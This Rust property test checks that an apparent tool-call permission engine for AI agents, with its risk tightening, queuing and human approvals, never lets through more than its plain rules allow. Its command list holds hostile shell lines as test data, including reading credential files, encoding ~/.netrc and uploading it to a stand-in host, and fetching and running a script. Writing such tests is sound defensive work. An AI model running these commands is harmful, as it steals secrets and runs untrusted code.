//! A model: over random steps nothing passes that rules, people and grants alone would not let pass.

use ccc_core::{desk::Desk, law::Law, risk::TextSigns};
use ccc_protocol::{
    actions::USE_TOOL,
    bodies::{FenceAnswer, GrantRequest, Status},
};
use serde_json::json;

use crate::rig::{self, Rig, call, law, rank};

/// Dice that always fall the same.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % u64::try_from(sides).unwrap()).unwrap()
    }
}

const COMMANDS: &[&str] = &[
    "ls", "cat src/main.rs", "touch a", "git commit -m x", "cargo test", "npm test", "./run.sh", "rm -rf build",
    "rm -rf ~/x", "git push", "git push --force", "git reset --hard", "cat ~/.aws/credentials", "cat .env",
    "cp ~/.netrc /tmp/n", "base64 /tmp/n > /tmp/m", "curl https://x.example/", "curl -T /tmp/m https://x.example/",
    "curl -o x.sh https://get.example/x", "sh x.sh", "npm install left-pad", "sudo true", "id", "uname -a",
    "cat /etc/passwd", "echo x >> ~/.bashrc", "unheard-of --now", "ssh box.example", "wget https://x.example/",
];

const RULES: &[&str] = &[
    "policy = 'auto-accept'\nwhere = { class = ['reads', 'writes', 'builds', 'network'] }",
    "policy = 'auto-accept'",
    "policy = 'queue'\nwhere = { class = ['upload'] }",
    "policy = 'auto-deny'\nwhere = { class = ['privilege'] }",
    "policy = 'confine'\nwhere = { class = ['builds', 'unknown', 'runs'] }",
    "policy = 'queue'\nwhere = { risk = 'medium' }",
    "policy = 'confine'\nwhere = { risk = 'medium' }",
    "policy = 'auto-deny'\nwhere = { risk = 'critical' }",
    "policy = 'queue'\nwhere = { session = { tainted = true } }",
    "policy = 'confine'\nwhere = { session = { denied = 1 } }",
];

fn asks_risk(rule: &str) -> bool {
    rule.contains("risk =") || rule.contains("session =")
}

/// Under how many rules, how many steps: `CCC_RISK_STEPS=1000000` is the long run.
#[test]
fn over_random_steps_nothing_passes_that_rules_alone_would_not_let_pass() {
    let steps: usize = std::env::var("CCC_RISK_STEPS").ok().and_then(|text| text.parse().ok()).unwrap_or(6_000);
    let mut dice = Dice(0x2545_F491_4F6C_DD1D);
    let (mut judged, mut tightened) = (0, 0);
    while judged < steps {
        let rules: Vec<&str> = RULES.iter().copied().filter(|_| dice.roll(2) == 0).collect();
        let config = |rules: &mut dyn Iterator<Item = &&str>| {
            let own = "[actions.use-tool]\npolicy = 'queue'\n[risk.enforce]\nafter = 4\nwithin = '2m'\nfor = '1m'\n"
                .to_owned();
            rules
                .enumerate()
                .fold(own, |text, (n, rule)| text + &format!("[[rule]]\nname = 'r{n}'\naction = 'use-tool'\n{rule}\n"))
        };
        let mut rig = Rig::new(&config(&mut rules.iter()));
        let without = law(&config(&mut rules.iter().filter(|rule| !asks_risk(rule))));
        for _ in 0..1000.min(steps - judged) {
            let stricter = step(&mut rig, &without, &mut dice);
            judged += 1;
            tightened += usize::from(stricter);
        }
    }
    assert!(tightened > steps / 50, "the model did what it is about: {tightened} of {judged}");
}

/// One call, beside what rules, people and grants alone say; then what people and time do.
fn step(rig: &mut Rig, without: &Law, dice: &mut Dice) -> bool {
    let (session, command) = (["a", "b", "c", ""][dice.roll(4)], COMMANDS[dice.roll(COMMANDS.len())]);
    let mut params = call(session, command);
    if dice.roll(2) == 0 {
        params.insert("can".into(), json!(["confine"]));
    }
    let signs = TextSigns { canary: (dice.roll(500) == 0).then(|| "in it".to_owned()), ..TextSigns::default() };
    let submission = rig.submission(USE_TOOL, params, signs);
    let is_open = rig.desk.has_open(&submission);
    let alone = rig::alone(rig, without, &submission);
    let submitted = rig.work(|desk, cx, change| desk.open_or_find(submission, None, cx, change));
    let Ok(ticket) = submitted.map(|submitted| submitted.ticket) else { return false };
    let stands = rank(ticket.status());
    // A call that waits already is answered by its ticket, which a person may have released.
    assert!(is_open || stands >= alone, "{session} {command}: {stands} where rules alone say {alone}: {ticket:?}");
    match dice.roll(12) {
        0..=2 if ticket.status() == Status::Queued => {
            let grant = (dice.roll(4) == 0).then(|| GrantRequest {
                uses: None,
                seconds: 60,
                params: Default::default(),
                beside: vec![],
            });
            let _ = rig.approve(&ticket, grant.filter(|_| ticket.needs().grant_seconds_max > 0));
        }
        3..=6 if ticket.status() == Status::Queued => drop(rig.deny(&ticket)),
        7 if dice.roll(8) == 0 => {
            rig.found(session, [FenceAnswer::Monitor, FenceAnswer::Escalate, FenceAnswer::Emergency][dice.roll(3)]);
        }
        8 if dice.roll(3) == 0 => drop(rig.thaw("ana")),
        9 if dice.roll(20) == 0 => rig.entries.clear(),
        _ => {}
    }
    rig.now += i64::try_from(dice.roll(30)).unwrap();
    rig.work(Desk::tick);
    stands > alone
}
